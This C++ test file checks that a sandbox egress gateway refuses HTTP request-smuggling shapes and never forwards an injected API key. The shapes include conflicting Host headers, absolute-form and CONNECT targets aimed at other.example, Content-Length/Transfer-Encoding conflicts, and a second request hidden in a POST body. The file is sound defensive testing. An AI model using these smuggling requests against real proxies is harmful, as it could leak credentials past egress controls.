// Gateway request smuggling: requests shaped to carry a bound credential somewhere the policy never
// named — an absolute-form target, two Host headers, a Host that is not the bound host, a CONNECT
// inside the session, a body framed two ways — sent inside an intercepted TLS session and on a
// base-URL route. Every one is refused (403, or 400 for what the parser itself rejects), the
// connection is closed, a record says why, and the upstream (a test server that records every
// request) never sees the credential. A plain request on a fresh connection still works, so the
// refusals are about the shape and nothing else.
#include <gtest/gtest.h>

#include "base/json.h"
#include "support/gateway_client.h"
#include "support/moat_env.h"
#include "support/test_ca.h"
#include "support/upstream_server.h"

using namespace moat;
using namespace moat::testing;
using namespace std::chrono_literals;

namespace {

class EgressSmuggling : public ::testing::Test {
 protected:
  void SetUp() override {
    MOAT_REQUIRE_ROOT();
    ca_ = std::make_unique<TestCa>(pki_.path());
    auto cert = ca_->issue("up", {"localhost", "127.0.0.1"});
    up_ = std::make_unique<UpstreamServer>(UpstreamServer::Options{.tls = UpstreamServer::TlsFiles{cert.cert_path, cert.key_path}});
    env_ = std::make_unique<MoatEnv>(fmt::format(
        "[egress]\nupstream_ca_file = \"{}\"\n[egress.routes.api]\nupstream = \"https://localhost:{}\"\nenv = \"API_BASE_URL\"\n",
        ca_->ca_cert_path().string(), up_->port()));
    env_->ok({"sandbox", "create", "a"});
    env_->ok({"policy", "allow", "a", fmt::format("localhost:{}", up_->port())});
    env_->ok({"policy", "allow", "a", fmt::format("127.0.0.1:{}", up_->port())});
    env_->ok({"secret", "set", "UP_KEY", "--host", fmt::format("localhost:{}", up_->port()), "--agent", "a", "--header",
              "x-api-key: {}", "--env", "UP_KEY"},
             value_);
    env_->ok({"sandbox", "start", "a"});
  }

  std::filesystem::path socket() const { return env_->state_dir() / "sandboxes" / "a" / "egress" / "gw.sock"; }
  std::string authority() const { return fmt::format("localhost:{}", up_->port()); }

  // `request` inside a fresh intercepted session; the reply, and whether the gateway then closed.
  std::pair<HttpReply, bool> inside_session(const std::string& request) {
    GatewayClient c(socket());
    auto open = c.connect(authority());
    EXPECT_EQ(open.status, 200) << open.head << open.body;
    EXPECT_EQ(c.start_tls(env_->state_dir() / "egress" / "ca.crt", "localhost", "localhost"), "");
    auto r = c.request(request);
    return {r, r.status == 200 || c.closed_within(5s)};
  }
  std::pair<HttpReply, bool> on_route(const std::string& request) {
    GatewayClient c(socket());
    auto r = c.request(request);
    return {r, r.status == 200 || c.closed_within(5s)};
  }

  // Requests the upstream saw that carry the real credential anywhere in their headers or target.
  size_t credential_sightings() const {
    size_t n = 0;
    for (const auto& req : up_->requests()) {
      bool seen = req.target.find(value_) != std::string::npos;
      for (const auto& [name, v] : req.headers) seen |= v.find(value_) != std::string::npos;
      n += seen;
    }
    return n;
  }

  // Refused requests on record (rule "request form"): repeats of one kind within the gateway's
  // coalescing interval are one record with a count, and the interval that is open when moatd stops
  // is reported at the stop; so moatd is restarted first and every refusal is counted.
  size_t form_refusals() {
    env_->stop_daemon();
    env_->start_daemon();
    size_t n = 0;
    for (const auto& j : env_->audit_records())
      if (j["kind"] == "egress" && j["data"].value("rule", "") == "request form") n += j["data"].value("repeats", 1);
    return n;
  }

  TempDir pki_{"moat-smuggling-pki"};
  std::unique_ptr<TestCa> ca_;
  std::unique_ptr<UpstreamServer> up_;
  std::unique_ptr<MoatEnv> env_;
  const std::string value_ = "sk-moat-smuggle-" + std::to_string(::getpid()) + "-5ecre7";
  const std::string ph_ = "moat-placeholder-UP_KEY";
};

TEST_F(EgressSmuggling, InsideAnInterceptedSessionEveryOtherShapeIsRefused) {
  auto host = authority();
  struct Attempt {
    std::string name, request;
    bool parser_refuses = false;  // Beast's parser rejects it before the gateway looks (400, or a close)
  };
  std::vector<Attempt> attempts = {
      {"absolute-form target to another host", "GET https://other.example/x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"absolute-form target to the bound host", "GET https://" + host + "/x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"authority-form target", "GET other.example:443 HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"a second Host header after the bound one", "GET /x HTTP/1.1\r\nHost: " + host + "\r\nHost: other.example\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"a second Host header before the bound one", "GET /x HTTP/1.1\r\nHost: other.example\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"no Host header", "GET /x HTTP/1.1\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"a Host that is not the bound host", "GET /x HTTP/1.1\r\nHost: other.example\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"the bound host on another port", "GET /x HTTP/1.1\r\nHost: localhost:1\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"CONNECT inside the session", "CONNECT other.example:443 HTTP/1.1\r\nHost: other.example:443\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"OPTIONS * is fine but GET * is not", "GET * HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"Content-Length with Transfer-Encoding",
       "POST /x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
       true},
      // Connection naming the framing: dropping Content-Length after the check would let the body be
      // read upstream as a second request (here one to another host) that nobody checked.
      {"Connection naming Content-Length, a request hidden in the body",
       "POST /x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\nConnection: keep-alive, content-length\r\n"
       "Content-Length: 55\r\n\r\nGET https://other.example/ HTTP/1.1\r\nHost: other.ex\r\n\r\n"},
      {"Connection naming Host", "GET /x HTTP/1.1\r\nHost: " + host + "\r\nConnection: Host\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      {"a network-path target", "GET //other.example/x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\n\r\n"},
      // Beast 1.74's parser takes two equal Content-Lengths: the gateway's own check refuses them.
      {"two Content-Length headers",
       "POST /x HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx"},
  };
  for (const auto& a : attempts) {
    SCOPED_TRACE(a.name);
    auto [reply, closed] = inside_session(a.request);
    if (a.parser_refuses) {
      EXPECT_TRUE(reply.status == 0 || reply.status == 400 || reply.status == 403) << reply.head;
    } else {
      EXPECT_EQ(reply.status, 403) << reply.head << reply.body;
      EXPECT_NE(reply.body.find("refused"), std::string::npos) << reply.body;
    }
    EXPECT_TRUE(closed) << "the connection stayed open after a refusal";
  }
  EXPECT_EQ(credential_sightings(), 0u);

  // Upgrade is stripped, not refused; OPTIONS * is origin-form's one exception; and a plain request
  // carries the credential: the refusals above were about shape alone.
  auto [upgraded, c1] = inside_session("GET /echo HTTP/1.1\r\nHost: " + host + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nx-api-key: " + ph_ + "\r\n\r\n");
  EXPECT_EQ(upgraded.status, 200) << upgraded.head;
  auto [star, c2] = inside_session("OPTIONS * HTTP/1.1\r\nHost: " + host + "\r\nx-api-key: " + ph_ + "\r\nConnection: close\r\n\r\n");
  EXPECT_EQ(star.status, 200) << star.head;
  ASSERT_TRUE(up_->wait_for_requests(2));
  auto reqs = up_->requests();
  ASSERT_EQ(reqs.size(), 2u);
  EXPECT_FALSE(reqs[0].has_header("upgrade"));
  EXPECT_EQ(reqs[0].header("x-api-key"), value_);
  EXPECT_EQ(reqs[1].target, "*");
  // Every refusal the gateway itself made is on record (the parser's are malformed requests, not forms).
  EXPECT_EQ(form_refusals(), 14u);
}

TEST_F(EgressSmuggling, OnABaseUrlRouteEveryOtherShapeIsRefused) {
  auto key = "x-api-key: " + ph_ + "\r\n";
  struct Attempt {
    std::string name, request;
    bool parser_refuses = false;
  };
  std::vector<Attempt> attempts = {
      {"two Host headers", "GET /api/x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nHost: other.example\r\n" + key + "\r\n"},
      {"no Host header", "GET /api/x HTTP/1.1\r\n" + key + "\r\n"},
      {"Content-Length with Transfer-Encoding",
       "POST /api/x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n" + key + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", true},
      {"two Content-Length headers",
       "POST /api/x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n" + key + "Content-Length: 1\r\nContent-Length: 1\r\n\r\nx"},
  };
  for (const auto& a : attempts) {
    SCOPED_TRACE(a.name);
    auto [reply, closed] = on_route(a.request);
    if (a.parser_refuses) {
      EXPECT_TRUE(reply.status == 0 || reply.status == 400 || reply.status == 403) << reply.head;
    } else {
      EXPECT_EQ(reply.status, 403) << reply.head << reply.body;
    }
    EXPECT_TRUE(closed);
  }
  // An absolute-form target to another host is not a route at all: it is plain forwarding, which
  // policy refuses here (and which never injects a credential).
  auto [elsewhere, c0] = on_route("GET http://other.example/api/x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n" + key + "\r\n");
  EXPECT_EQ(elsewhere.status, 403) << elsewhere.head;
  EXPECT_TRUE(c0);
  EXPECT_EQ(credential_sightings(), 0u);

  // The route itself works, with the proxy's address in absolute form too (clients that ignore NO_PROXY).
  auto [fine, c1] = on_route("GET /api/echo HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n" + key + "Connection: close\r\n\r\n");
  EXPECT_EQ(fine.status, 200) << fine.head << fine.body;
  auto [absolute, c2] = on_route("GET http://127.0.0.1:3128/api/echo HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n" + key + "Connection: close\r\n\r\n");
  EXPECT_EQ(absolute.status, 200) << absolute.head << absolute.body;
  ASSERT_TRUE(up_->wait_for_requests(2));
  EXPECT_EQ(credential_sightings(), 2u);
  EXPECT_EQ(form_refusals(), 3u);
}

}  // namespace
